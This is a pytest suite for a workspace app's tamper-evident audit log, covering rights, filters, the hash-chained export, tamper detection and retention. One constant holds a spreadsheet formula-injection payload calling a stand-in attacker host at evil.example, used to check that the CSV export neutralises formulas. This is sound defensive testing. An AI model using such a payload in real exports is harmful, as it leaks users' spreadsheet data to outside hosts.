"""The audit of a workspace: what is noted, who reads it, and that nobody changes it unseen."""

import asyncio
import csv
import hashlib
import io
import json
import subprocess
import sys
from collections.abc import Awaitable, Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from parlour.core.clock import now
from parlour.core.house import House
from parlour.core.ids import UserId, WorkspaceId, new_id
from parlour.core.model.audit import Verified
from parlour.core.people.audit_retention import trim
from parlour.core.people.audit_verify import verify
from parlour.core.settings import Settings
from tests.person import Json, Person

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


def audit_of(person: Person, rest: str = "") -> str:
    return f"/api/v1/workspaces/{person.workspace['id']}/audit{rest}"


async def noted(person: Person, query: str = "?limit=200") -> list[Json]:
    """The audit, the oldest entry first."""
    return list(reversed((await person.get(audit_of(person, query)))["items"]))


async def an_audit(house: House, entries: int = 6) -> WorkspaceId:
    """An audit of its own, of so many entries."""
    workspace = WorkspaceId(new_id())
    for n in range(entries):
        await house.audit.note(workspace, None, "file.held", f"file-{n}", f"Number {n}.")
    return workspace


async def broken(house: House, workspace: WorkspaceId) -> list[tuple[str, int | None]]:
    """What a verification finds, and where."""
    found = await verify(house, workspace)
    assert found.intact == (not found.faults)
    return [(fault.kind, fault.seq) for fault in found.faults]


async def test_owners_page_through_what_was_done_and_nobody_else_does(
    ada: Person, ben: Person, outsider: Person, house: House
) -> None:
    workspace = WorkspaceId(ada.workspace["id"])
    await house.audit.note(workspace, None, "file.quarantined", "file-1", "A virus was found.")
    await house.audit.note(workspace, UserId(ada.id), "file.released", "file-1", "It is a test.")
    first = await ada.get(audit_of(ada, "?limit=1"))
    [newest] = first["items"]
    assert (newest["actor_id"], newest["action"], newest["detail"]) == (
        ada.id,
        "file.released",
        "It is a test.",
    )
    rest = await ada.get(audit_of(ada, f"?limit=1&cursor={first['next']}"))
    assert [(e["actor_id"], e["action"], e["subject"]) for e in rest["items"]] == [
        (None, "file.quarantined", "file-1")
    ]
    for path in ("", "/export", "/verify", "/retention"):
        assert (await ben.ask("GET", audit_of(ada, path))).code == "missing_right"
        assert (await outsider.ask("GET", audit_of(ada, path))).code == "not_found"
    for person, code in ((ben, "missing_right"), (outsider, "not_found")):
        assert (await person.ask("PUT", audit_of(ada, "/retention"), {"days": 90})).code == code


async def test_what_an_activity_notes_twice_is_there_once(house: House) -> None:
    workspace = WorkspaceId(new_id())
    for detail in ("first", "again"):
        await house.audit.note(workspace, None, "file.held", "file-1", detail, once=f"{workspace}/file-1")
    found = await house.audit.page(workspace, before=None, limit=10)
    assert [entry.detail for entry in found] == ["first"]
    assert await broken(house, workspace) == []


async def test_what_is_of_consequence_is_noted_with_who_and_what(ada: Person, ben: Person) -> None:
    workspace = f"/api/v1/workspaces/{ada.workspace['id']}"
    channel = await ada.make_channel("public", ben, name="plans")
    said = await ben.send(channel, "Something rude.")
    await ada.ask("PATCH", workspace, {"name": "Difference Engines"})
    await ada.ask("DELETE", f"/api/v1/messages/{said['id']}")
    await ada.ask("PATCH", f"/api/v1/channels/{channel}", {"kind": "private"})
    await ada.ask("PATCH", f"/api/v1/channels/{channel}", {"archived": True})
    await ada.ask("PATCH", f"/api/v1/channels/{channel}", {"archived": False})
    await ada.ask("DELETE", f"/api/v1/channels/{channel}/members/{ben.id}")
    group = {"name": "Crew", "handle": "crew", "user_ids": [ben.id]}
    crew = (await ben.post(f"{workspace}/groups", group))["id"]
    await ada.ask("DELETE", f"{workspace}/members/{ben.id}")
    told = [(entry["actor_id"], entry["action"], entry["subject"]) for entry in await noted(ada)]
    assert told[0][1:] == ("workspace.created", ada.workspace["id"])
    assert {(ada.id, "invitation.made"), (ben.id, "member.joined")} <= {one[:2] for one in told}
    expected = [
        (ada.id, "channel.created", channel),
        (ada.id, "workspace.changed", ada.workspace["id"]),
        (ada.id, "message.deleted", said["id"]),
        (ada.id, "channel.made_private", channel),
        (ada.id, "channel.archived", channel),
        (ada.id, "channel.restored", channel),
        (ada.id, "channel.member_removed", ben.id),
        (ben.id, "group.created", crew),
        (ada.id, "member.removed", ben.id),
    ]
    assert [one for one in told if one in expected] == expected
    texts = json.dumps(await noted(ada))
    assert "Something rude." not in texts


async def test_an_entry_tells_from_where_it_was_asked(ada: Person) -> None:
    await ada.ask(
        "PATCH", f"/api/v1/workspaces/{ada.workspace['id']}", {"name": "New"}, User_Agent="Engine/1"
    )
    [entry] = await noted(ada, "?action=workspace.changed")
    assert entry["origin"]["agent"] == "Engine/1"
    assert entry["origin"]["address"]
    assert entry["origin"]["kind"] == "session"
    assert entry["origin"]["session_id"]


async def test_the_audit_is_filtered_by_who_what_to_what_and_when(
    ada: Person, ben: Person, house: House
) -> None:
    workspace = WorkspaceId(ada.workspace["id"])
    before = now()
    await asyncio.sleep(0.01)
    for actor, subject in ((ada, "file-1"), (ben, "file-1"), (ben, "file-2")):
        await house.audit.note(workspace, UserId(actor.id), "file.deleted", subject, actor.name)
    since = before.isoformat().replace("+00:00", "Z")
    assert [e["subject"] for e in await noted(ada, f"?actor={ben.id}&action=file.*")] == ["file-1", "file-2"]
    assert [e["actor_id"] for e in await noted(ada, "?subject=file-1")] == [ada.id, ben.id]
    assert len(await noted(ada, f"?since={since}")) == 3
    assert {e["action"] for e in await noted(ada, f"?until={since}")}.isdisjoint({"file.deleted"})
    assert len(await noted(ada, "?action=file.deleted,workspace.created")) == 4
    refused = await ada.ask("GET", audit_of(ada, "?action=nothing.such"))
    assert (refused.status, refused.code) == (422, "invalid")
    assert (await ada.ask("GET", audit_of(ada, "?since=yesterday"))).status == 422


async def test_an_export_of_lines_can_be_verified_by_anyone(ada: Person, house: House) -> None:
    await house.audit.note(
        WorkspaceId(ada.workspace["id"]), UserId(ada.id), "file.held", "f", "Ünïcode “q” \n"
    )
    loaded = await ada.load(audit_of(ada, "/export"))
    assert loaded.headers["Content-Type"] == "application/x-ndjson"
    lines = [json.loads(line) for line in loaded.data.splitlines()]
    assert [line["seq"] for line in lines] == list(range(1, len(lines) + 1))
    assert lines[-1]["action"] == "audit.exported"
    previous = hashlib.sha256().hexdigest()
    for line in lines:
        claimed = line.pop("hash")
        written = json.dumps(line, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
        assert line["prev_hash"] == previous
        assert hashlib.sha256(written.encode()).hexdigest() == claimed
        previous = claimed


async def test_no_cell_of_an_exported_table_is_a_formula(ada: Person, house: House) -> None:
    workspace = WorkspaceId(ada.workspace["id"])
    for detail in (FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "plain, with “comma”"):
        await house.audit.note(workspace, UserId(ada.id), "file.held", "f", detail)
    loaded = await ada.load(audit_of(ada, "/export?format=csv&action=file.held"))
    assert loaded.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in loaded.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(loaded.data.decode(), newline="")))
    assert [row["actor"] for row in rows] == ["ada"] * 8
    assert rows[0]["detail"] == f"'{FORMULA}"
    assert all(row["detail"].startswith("'") for row in rows[:7])
    assert rows[7]["detail"] == "plain, with “comma”"


async def test_entries_of_many_writers_make_one_chain_without_a_gap(house: House) -> None:
    workspace = WorkspaceId(new_id())
    notes = (house.audit.note(workspace, None, "file.held", f"f-{n}", "At once.") for n in range(40))
    await asyncio.gather(*notes)
    chain = await house.audit.chained(workspace, after=0, limit=100)
    assert [entry["seq"] for entry in chain] == list(range(1, 41))
    assert {entry["subject"] for entry in chain} == {f"f-{n}" for n in range(40)}
    assert await broken(house, workspace) == []


async def test_an_audit_that_nobody_touched_is_intact(ada: Person, ben: Person) -> None:
    found = await ada.get(audit_of(ada, "/verify"))
    assert (found["intact"], found["faults"], found["next"]) == (True, [], None)
    assert found["last_seq"] == found["entries"] == len(await noted(ada))


Tamper = Callable[[Any, WorkspaceId], Awaitable[Any]]

TAMPERED: dict[str, tuple[Tamper, list[tuple[str, int | None]]]] = {
    "a changed detail": (
        lambda audit, w: audit.update_one({"workspace_id": w, "seq": 3}, {"$set": {"detail": "Nothing."}}),
        [("changed", 3)],
    ),
    "a changed time": (
        lambda audit, w: audit.update_one(
            {"workspace_id": w, "seq": 3}, {"$set": {"at": now() - timedelta(days=1)}}
        ),
        [("changed", 3)],
    ),
    "an entry taken out": (
        lambda audit, w: audit.delete_one({"workspace_id": w, "seq": 3}),
        [("removed", 4)],
    ),
    "the first taken out": (
        lambda audit, w: audit.delete_one({"workspace_id": w, "seq": 1}),
        [("removed", 2)],
    ),
    "the last taken out": (
        lambda audit, w: audit.delete_one({"workspace_id": w, "seq": 6}),
        [("removed", 6)],
    ),
    "all taken out": (
        lambda audit, w: audit.delete_many({"workspace_id": w}),
        [("removed", 6)],
    ),
    "one put in without a number": (
        lambda audit, w: audit.insert_one({"_id": new_id(), "workspace_id": w, "action": "file.held"}),
        [("inserted", None)],
    ),
    "one put in between two": (
        lambda audit, w: audit.insert_one({"_id": new_id(), "workspace_id": w, "seq": 3.5, "hash": "x"}),
        [("inserted", None)],
    ),
}


@pytest.mark.parametrize("what", TAMPERED)
async def test_it_shows_where_somebody_changed_the_audit_in_the_database(house: House, what: str) -> None:
    workspace = await an_audit(house)
    assert await broken(house, workspace) == []
    tamper, expected = TAMPERED[what]
    await tamper(house.database.audit, workspace)
    assert await broken(house, workspace) == expected


async def test_a_chain_written_anew_without_the_secret_key_shows(house: House) -> None:
    from parlour.core.store.audit_chain import hash_of

    workspace = await an_audit(house)
    previous = (await house.audit.numbered(workspace, 2) or {})["hash"]
    for entry in await house.audit.chained(workspace, after=2, limit=10):
        entry |= {"detail": "Forged.", "prev_hash": previous}
        entry["hash"] = previous = hash_of(entry)
        fields = {name: entry[name] for name in ("detail", "prev_hash", "hash")}
        await house.database.audit.update_one({"_id": entry["id"]}, {"$set": fields})
    await house.database.audit_marks.update_one({"_id": workspace}, {"$set": {"end.hash": previous}})
    assert await broken(house, workspace) == [
        ("unsealed", 3),
        ("unsealed", 4),
        ("unsealed", 5),
        ("unsealed", 6),
        ("unsealed", 6),
    ]


async def test_what_was_noted_before_there_were_chains_is_the_start_of_one(house: House) -> None:
    workspace = WorkspaceId(new_id())
    old = {"at": now(), "actor_id": None, "action": "file.held", "subject": "f", "detail": "Of old."}
    ids = [new_id(), new_id()]
    await house.database.audit.insert_many([{**old, "_id": one, "workspace_id": workspace} for one in ids])
    assert await broken(house, workspace) == []
    await house.audit.note(workspace, None, "file.held", "f", "The first with a number.")
    assert await broken(house, workspace) == []
    await house.database.audit.delete_one({"_id": ids[0]})
    assert await broken(house, workspace) == [("changed", None)]


async def test_a_long_audit_is_verified_in_parts(house: House) -> None:
    workspace = await an_audit(house, 7)
    found: Verified | None = None
    seen = []
    while found is None or found.next is not None:
        found = await verify(house, workspace, after=found.next if found else None, most=3)
        assert found.intact
        seen.append((found.first_seq, found.last_seq))
    assert seen == [(1, 3), (4, 6), (7, 7)]


async def aged(house: House, workspace: WorkspaceId, entries: int, *, old: int) -> None:
    """Note entries, of which the first are of long ago."""
    from parlour.core.store.audit_chain import hash_of

    previous = await house.audit.beginning(workspace)
    for n in range(1, entries + 1):
        at = now() - timedelta(days=400 if n <= old else 1)
        entry = {"id": new_id(), "workspace_id": workspace, "at": at, "actor_id": None, "action": "file.held"}
        entry |= {"subject": "f", "detail": "", "origin": None, "seq": n, "prev_hash": previous}
        previous = entry["hash"] = hash_of(entry)
        entry |= {"_id": entry.pop("id"), "seal": house.audit.sealer.seal("entry", workspace, n, previous)}
        await house.database.audit.insert_one(entry)
    await house.audit.note(workspace, None, "file.held", "f", "Of today.")


async def test_what_is_older_than_it_is_kept_is_removed_and_the_rest_still_verifies(house: House) -> None:
    workspace = WorkspaceId(new_id())
    await aged(house, workspace, 9, old=5)
    assert await broken(house, workspace) == []
    assert await trim(house, workspace, days=365) == 5
    chain = await house.audit.chained(workspace, after=0, limit=100)
    assert [entry["seq"] for entry in chain] == [6, 7, 8, 9, 10, 11]
    assert chain[-1]["action"] == "audit.trimmed"
    assert await broken(house, workspace) == []
    found = await verify(house, workspace)
    assert found.checkpoint
    assert (found.first_seq, found.checkpoint.seq, found.checkpoint.removed) == (6, 5, 5)
    assert await trim(house, workspace, days=365) == 0
    await house.database.audit.delete_one({"workspace_id": workspace, "seq": 6})
    assert await broken(house, workspace) == [("removed", 7)]


async def test_a_checkpoint_that_somebody_moved_shows(house: House) -> None:
    workspace = WorkspaceId(new_id())
    await aged(house, workspace, 9, old=5)
    await trim(house, workspace, days=365)
    seventh = await house.audit.numbered(workspace, 7)
    assert seventh
    moved = {"checkpoint.seq": 7, "checkpoint.hash": seventh["hash"]}
    await house.database.audit_marks.update_one({"_id": workspace}, {"$set": moved})
    await house.database.audit.delete_many({"workspace_id": workspace, "seq": {"$lte": 7}})
    assert await broken(house, workspace) == [("unsealed", 7)]


async def test_what_does_not_verify_is_not_removed(house: House) -> None:
    workspace = WorkspaceId(new_id())
    await aged(house, workspace, 9, old=5)
    await house.database.audit.update_one({"workspace_id": workspace, "seq": 2}, {"$set": {"detail": "x"}})
    assert await trim(house, workspace, days=365) == 0
    assert len(await house.audit.chained(workspace, after=0, limit=100)) == 10
    assert await broken(house, workspace) == [("changed", 2)]


async def test_an_owner_says_for_how_long_the_audit_is_kept(ada: Person) -> None:
    assert await ada.get(audit_of(ada, "/retention")) == {"days": None}
    short = await ada.ask("PUT", audit_of(ada, "/retention"), {"days": 7})
    assert (short.status, short.code) == (422, "invalid")
    assert "audit_retention_min_days" in short.body["detail"]
    assert (await ada.ask("PUT", audit_of(ada, "/retention"), {"days": 90})).body == {"days": 90}
    assert await ada.get(audit_of(ada, "/retention")) == {"days": 90}
    [entry] = await noted(ada, "?action=audit.retention_changed")
    assert entry["detail"] == "For 90 days."


async def test_the_command_says_which_audit_is_not_what_was_written(
    ada: Person, house: House, stack_settings: Settings
) -> None:
    slug, workspace = ada.workspace["slug"], ada.workspace["id"]
    well = await asyncio.to_thread(audit_verify, slug)
    assert (well.returncode, "intact" in well.stdout) == (0, True), well
    await house.database.audit.update_one({"workspace_id": workspace, "seq": 1}, {"$set": {"subject": "x"}})
    ill = await asyncio.to_thread(audit_verify, workspace)
    assert (ill.returncode, "Entry 1 is not what was written." in ill.stdout) == (1, True), ill
    assert (await asyncio.to_thread(audit_verify, "no-such-place")).returncode == 2


def audit_verify(workspace: str) -> subprocess.CompletedProcess[str]:
    program = Path(sys.executable).with_name("parlour")
    command = [str(program), "audit", "verify", "--workspace", workspace]
    return subprocess.run(command, capture_output=True, text=True, check=False)
